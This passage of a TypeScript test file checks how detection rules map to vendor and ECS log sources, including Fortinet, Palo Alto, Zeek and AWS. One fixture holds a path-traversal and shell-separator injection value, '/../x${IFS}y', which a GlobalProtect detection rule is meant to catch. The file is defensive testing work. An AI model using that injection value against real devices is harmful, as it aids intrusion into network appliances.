      of("fortinet_fortigate.log", { event: { action: "Add" }, fortinet: { firewall: { cfgpath: "system.admin" } } }),
    ],
    no: [{ logid: "1", devid: "FG", type: "event", action: "Add", cfgpath: "system.dns" }],
  },
  {
    logsource: "product: paloalto, category: file_event, service: globalprotect",
    selection: "{TargetFilename|contains: '{IFS}'}",
    yes: [of("panw.panos", { message: "unmarshal session(/../x${IFS}y) map" })],
    no: [of("panw.panos", { message: "session ok" })],
  },
];

describe("a rule against the vendor's JSON, against ECS, and against what it must leave alone", () => {
  test.each(CASES.map((one, i) => [`${one.logsource} ${i}`, one] as const))("%s", (_, { logsource, selection, yes, no }) => {
    for (const document of yes) expect(hits(logsource, selection, document), JSON.stringify(document)).toBe(true);
    for (const document of no) expect(hits(logsource, selection, document), JSON.stringify(document)).toBe(false);
  });
});

/** Log sources whose rules search for words alone, or name fields as ECS does. */
const WITHOUT_FIELDS = [
  "-/network/connection",
  "huawei/-/bgp",
  "juniper/-/bgp",
  "-/database/-",
  ...["django", "python", "ruby_on_rails", "spring", "jvm", "nodejs", "velocity", "sql"].map((product) => `${product}/application/-`),
];

test("every log source has fields, and a case above", () => {
  const bare = PRODUCTS.filter(({ fields, places = [] }) => Object.keys(fields).length === 0 && places.length === 0);
  expect(bare.map(({ names }) => names[0]!).toSorted()).toEqual(WITHOUT_FIELDS.toSorted());
  const tested = new Set(
    CASES.flatMap(({ logsource }) => {
      const part = (name: string): string | null => new RegExp(`${name}: ([^, ]+)`).exec(logsource)?.[1]?.toLowerCase() ?? null;
      const sources = productsOf(part("product"), part("category"), part("service"));
      return sources.length === 1 || part("service") === null ? sources : [];
    }),
  );
  expect(PRODUCTS.filter((source) => !tested.has(source)).map(({ names }) => names[0])).toEqual([]);
});

test("every log source has a way to be recognised, and matches no foreign event", () => {
  for (const source of PRODUCTS) {
    expect((source.datasets?.length ?? 0) + (source.shapes?.length ?? 0), source.names[0]).toBeGreaterThan(0);
    for (const shape of source.shapes ?? []) expect(Object.keys(shape).length, source.names[0]).toBeGreaterThan(0);
    for (const name of source.names) {
      const parts = name.split("/");
      expect(parts).toHaveLength(3);
      expect(name).toBe(name.toLowerCase());
      const [product, category, service] = parts.map((part) => (part === "-" ? null : part));
      expect(productsOf(product!, category!, service!)).toContain(source);
      const logsource = Object.entries({ product, category, service }).flatMap(([key, value]) =>
        value === null ? [] : [`${key}: ${value}`],
      );
      expect(hits(logsource.join(", "), "['anything']", { event: { code: "1", provider: "none" }, message: "anything" }), name).toBe(false);
    }
  }
});

test("a log source of fewer parts stands for all that have them; one with a part too many for none", () => {
  const name = (product: string | null, category: string | null, service: string | null): number =>
    productsOf(product, category, service).length;
  expect(name("zeek", null, null)).toBeGreaterThan(10);
  expect(name("aws", null, "cloudtrail")).toBe(1);
  expect(name(null, null, "audit")).toBeGreaterThan(3);
  expect(name("aws", "process_creation", null)).toBe(0);
  expect(name("okta", null, "audit")).toBe(0);
});
